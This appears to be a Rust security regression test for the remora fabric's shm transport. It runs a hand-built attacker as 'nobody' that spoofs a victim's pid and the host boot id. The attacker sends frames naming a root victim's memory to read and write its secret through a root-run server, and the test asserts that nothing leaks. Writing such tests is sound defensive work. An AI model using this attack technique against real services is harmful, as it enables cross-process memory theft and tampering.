//! Issue 10, finding 1: the `shm` transport must never reach memory that was not handed over.
//!
//! A root-run `remora fabric serve` / `remora lazy serve --transport shm`, a root victim process
//! holding a secret, and an attacker running as `nobody` (this test binary, copied to a
//! world-readable directory and re-run under `setpriv`) that speaks the setup protocol by hand:
//! the old hello that carried a pid, and the current one with frames that name the victim's
//! addresses as "handed over" memory. The attacker must read nothing of the victim and write
//! nothing into it. Needs root and `setpriv`; skips with a reason otherwise. With
//! `REMORA_TEST_EXE=/path/to/old/remora` it runs against another build (the build before the
//! fix fails it).
mod serve_common;

use std::io::{BufRead, BufReader, Read, Write};

use serve_common::{is_root, run_as_nobody};
use std::net::{SocketAddr, TcpStream};
use std::os::linux::net::SocketAddrExt;
use std::os::unix::net::UnixStream;
use std::process::{Child, Command, Stdio};
use std::time::Duration;

const SECRET: &[u8] = b"remora-secret-0123456789abcdef!!";
const LEN: usize = 4096;

struct Killed(Child);
impl Drop for Killed {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

fn skip_reason() -> Option<&'static str> {
    if !is_root() {
        return Some("needs root (the server must run as root and the attacker as nobody)");
    }
    if Command::new("setpriv").arg("--version").output().is_err() {
        return Some("needs setpriv (util-linux)");
    }
    None
}

/// Not a test: the victim's entry point when this binary is re-run with REMORA_TEST_VICTIM.
/// The victim: holds `SECRET` repeated over `LEN` bytes at an address it prints, and prints the
/// bytes again (hex) when its stdin closes.
#[test]
fn victim_entry() {
    if std::env::var_os("REMORA_TEST_VICTIM").is_none() {
        return;
    }
    let secret: Vec<u8> = SECRET.iter().copied().cycle().take(LEN).collect();
    let secret = std::hint::black_box(secret);
    println!("victim {:#x}", secret.as_ptr() as usize);
    std::io::stdout().flush().unwrap();
    let mut sink = Vec::new();
    let _ = std::io::stdin().read_to_end(&mut sink);
    println!("after {}", hex(std::hint::black_box(&secret)));
}

fn hex(b: &[u8]) -> String {
    b.iter().map(|x| format!("{x:02x}")).collect()
}

struct Victim {
    child: Killed,
    out: BufReader<std::process::ChildStdout>,
    pid: u32,
    addr: u64,
}

fn victim() -> Victim {
    let mut c = Command::new(std::env::current_exe().unwrap())
        .args(["--exact", "victim_entry", "--nocapture", "--test-threads=1"])
        .env("REMORA_TEST_VICTIM", "1")
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .unwrap();
    let mut out = BufReader::new(c.stdout.take().unwrap());
    let mut line = String::new();
    // The test harness prints its own words before ours on the same line.
    let addr = loop {
        line.clear();
        assert!(out.read_line(&mut line).unwrap() > 0, "victim ended early");
        if let Some(at) = line.find("victim 0x") {
            break u64::from_str_radix(line[at + "victim 0x".len()..].trim(), 16).unwrap();
        }
    };
    Victim {
        pid: c.id(),
        child: Killed(c),
        out,
        addr,
    }
}

/// Ends the victim and returns the bytes it holds at the end.
fn victim_bytes(mut v: Victim) -> Vec<u8> {
    drop(v.child.0.stdin.take());
    let mut rest = String::new();
    v.out.read_to_string(&mut rest).unwrap();
    let _ = v.child.0.wait();
    let line = rest
        .lines()
        .find_map(|l| Some(&l[l.find("after ")? + "after ".len()..]))
        .expect("victim printed its bytes");
    (0..line.len() / 2)
        .map(|i| u8::from_str_radix(&line[2 * i..2 * i + 2], 16).unwrap())
        .collect()
}

/// Runs the attacker as nobody against `server`; returns its stdout.
fn attack(server: SocketAddr, v: &Victim, writable: bool) -> String {
    let (server, pid, addr) = (server.to_string(), v.pid.to_string(), v.addr.to_string());
    let out = run_as_nobody(
        "attacker_entry",
        &[
            ("REMORA_TEST_ATTACK", server.as_str()),
            ("REMORA_TEST_VICTIM_PID", pid.as_str()),
            ("REMORA_TEST_VICTIM_ADDR", addr.as_str()),
            ("REMORA_TEST_WRITABLE", if writable { "1" } else { "0" }),
        ],
    );
    let s = String::from_utf8_lossy(&out.stdout).to_string();
    assert!(
        s.contains("attacker done"),
        "attacker did not finish: {s}\n{}",
        String::from_utf8_lossy(&out.stderr)
    );
    s
}

// --- the attacker: raw setup hello and stream frames, as a hostile client would send them ---

fn frame(kind: u8, code: u8, len: u32, va: u64, rkey: u32, aux: u64) -> [u8; 32] {
    let mut b = [0u8; 32];
    b[0] = kind;
    b[1] = code;
    b[4..8].copy_from_slice(&len.to_le_bytes());
    b[8..16].copy_from_slice(&va.to_le_bytes());
    b[16..20].copy_from_slice(&rkey.to_le_bytes());
    b[24..32].copy_from_slice(&aux.to_le_bytes());
    b
}

/// The setup version the fabric speaks now (the hello layout has not changed since 2).
const CURRENT: u8 = 3;

/// A hello of setup `version` for `transport` (1 udp, 2 shm, 3 tcp), claiming `pid` in the
/// slot where version 1 carried the sender's pid.
fn hello(version: u8, transport: u8, pid: u32) -> Vec<u8> {
    let mut b = Vec::new();
    b.extend_from_slice(b"RMRA");
    b.extend_from_slice(&[version, transport, 0, 0]);
    b.extend_from_slice(&4096u32.to_le_bytes());
    b.extend_from_slice(&0x4242u32.to_le_bytes());
    b.extend_from_slice(&7u32.to_le_bytes());
    b.extend_from_slice(&[0, 0, 0, 0]);
    b.extend_from_slice(&pid.to_le_bytes());
    // Version 1's boot id: this host's, so an old server takes us for a same-host peer.
    let boot = std::fs::read_to_string("/proc/sys/kernel/random/boot_id").unwrap_or_default();
    let hexd: Vec<u8> = boot
        .bytes()
        .filter(u8::is_ascii_hexdigit)
        .map(|c| (c as char).to_digit(16).unwrap() as u8)
        .collect();
    let mut id = [0u8; 16];
    if version == 1 {
        for (i, p) in hexd.chunks(2).take(16).enumerate() {
            id[i] = p[0] << 4 | p.get(1).copied().unwrap_or(0);
        }
    }
    b.extend_from_slice(&id);
    b.extend_from_slice(&0u32.to_le_bytes());
    b
}

struct Peer {
    hello: [u8; 48],
    addr: u64,
    rkey: u32,
}

fn open(server: &str, version: u8, transport: u8, pid: u32) -> Option<(TcpStream, Peer)> {
    let mut s = TcpStream::connect(server).ok()?;
    s.set_read_timeout(Some(Duration::from_secs(5))).ok();
    s.write_all(&hello(version, transport, pid)).ok()?;
    let mut h = [0u8; 48];
    s.read_exact(&mut h).ok()?;
    let plen = u32::from_le_bytes(h[44..48].try_into().unwrap()) as usize;
    let mut p = vec![0u8; plen];
    s.read_exact(&mut p).ok()?;
    let addr = u64::from_le_bytes(p.get(..8)?.try_into().ok()?);
    let rkey = u32::from_le_bytes(p.get(16..20)?.try_into().ok()?);
    Some((
        s,
        Peer {
            hello: h,
            addr,
            rkey,
        },
    ))
}

/// Sends frames and collects what comes back until the peer is quiet for a moment.
fn exchange(s: &mut (impl Read + Write), frames: &[[u8; 32]]) -> Vec<u8> {
    for f in frames {
        if s.write_all(f).is_err() {
            break;
        }
    }
    let mut got = Vec::new();
    let mut b = [0u8; 65536];
    while let Ok(n) = s.read(&mut b) {
        if n == 0 {
            break;
        }
        got.extend_from_slice(&b[..n]);
    }
    got
}

/// The region's first `LEN` bytes read inline over tcp (what an rkey legitimately grants).
fn read_back(server: &str, version: u8) -> Vec<u8> {
    let Some((mut s, p)) = open(server, version, 3, 0) else {
        return Vec::new();
    };
    s.set_read_timeout(Some(Duration::from_millis(500))).ok();
    let got = exchange(&mut s, &[frame(5, 0, LEN as u32, p.addr, p.rkey, 0)]);
    got.get(32..).unwrap_or_default().to_vec()
}

/// Not a test: the attacker's entry point when this binary is re-run with REMORA_TEST_ATTACK.
#[test]
fn attacker_entry() {
    let Ok(server) = std::env::var("REMORA_TEST_ATTACK") else {
        return;
    };
    let pid: u32 = std::env::var("REMORA_TEST_VICTIM_PID")
        .unwrap()
        .parse()
        .unwrap();
    let victim: u64 = std::env::var("REMORA_TEST_VICTIM_ADDR")
        .unwrap()
        .parse()
        .unwrap();
    let writable = std::env::var("REMORA_TEST_WRITABLE").unwrap() == "1";
    assert!(!is_root(), "the attacker must not be root");
    for version in [1u8, CURRENT] {
        let Some((mut s, p)) = open(&server, version, 2, pid) else {
            println!("v{version} shm setup refused");
            continue;
        };
        println!("v{version} shm setup accepted");
        s.set_read_timeout(Some(Duration::from_millis(500))).ok();
        // WRITE from the victim's address into the region, then READ the region's zeros (past
        // the part a WRITE filled) into the victim. Version 1 named the source by address
        // (code 0); the current version by reference (code 1), claiming a memfd never handed
        // over.
        let code = (version >= 2) as u8;
        let mut frames = Vec::new();
        if writable {
            frames.push(frame(1, code, LEN as u32, p.addr, p.rkey, victim));
        }
        frames.push(frame(
            5,
            code,
            LEN as u32,
            p.addr + 2 * LEN as u64,
            p.rkey,
            victim,
        ));
        // A MAP without a descriptor that claims the victim's range, then the same again.
        frames.push(frame(9, 0, 0, victim, 0, LEN as u64));
        frames.push(frame(
            5,
            code,
            LEN as u32,
            p.addr + 2 * LEN as u64,
            p.rkey,
            victim,
        ));
        let replies = if version == 1 {
            exchange(&mut s, &frames)
        } else {
            let mut name = String::new();
            for b in &p.hello[28..36] {
                name.push_str(&format!("{b:02x}"));
            }
            let a =
                std::os::unix::net::SocketAddr::from_abstract_name(format!("remora-shm-{name}"))
                    .unwrap();
            let mut u = UnixStream::connect_addr(&a).unwrap();
            u.write_all(&p.hello[36..44]).unwrap();
            let mut count = [0u8; 4];
            u.read_exact(&mut count).unwrap();
            u.set_read_timeout(Some(Duration::from_millis(500))).ok();
            exchange(&mut u, &frames)
        };
        let kinds: Vec<u8> = replies.chunks(32).map(|c| c[0]).collect();
        println!("v{version} replies {kinds:?}");
    }
    for version in [1u8, CURRENT] {
        println!("v{version} leak {}", hex(&read_back(&server, version)));
    }
    println!("attacker done");
}

fn check(server: SocketAddr, writable: bool) {
    let v = victim();
    let out = attack(server, &v, writable);
    let after = victim_bytes(v);
    let secret: Vec<u8> = SECRET.iter().copied().cycle().take(LEN).collect();
    assert_eq!(after, secret, "the attacker wrote into the victim:\n{out}");
    assert!(
        !out.contains(&hex(&SECRET[..16])),
        "the attacker read the victim's secret:\n{out}"
    );
    assert!(out.contains("v1 shm setup refused"), "{out}");
    assert!(
        out.contains(&format!("v{CURRENT} shm setup accepted")),
        "{out}"
    );
}

#[test]
fn shm_claimed_pid_attack_on_a_root_fabric_server_reads_and_writes_nothing() {
    if let Some(why) = skip_reason() {
        eprintln!("skipped: {why}");
        return;
    }
    let srv = serve_common::serve(&[
        "fabric",
        "serve",
        "--listen",
        "127.0.0.1:0",
        "--region-size",
        "1M",
    ]);
    check(srv.addr, true);
}

#[test]
fn shm_claimed_pid_attack_on_a_root_lazy_server_reads_and_writes_nothing() {
    if let Some(why) = skip_reason() {
        eprintln!("skipped: {why}");
        return;
    }
    let lazy = serve_common::serve_lazy_file("sec-lazy", 1 << 20, 0);
    check(lazy.served.addr, false);
}
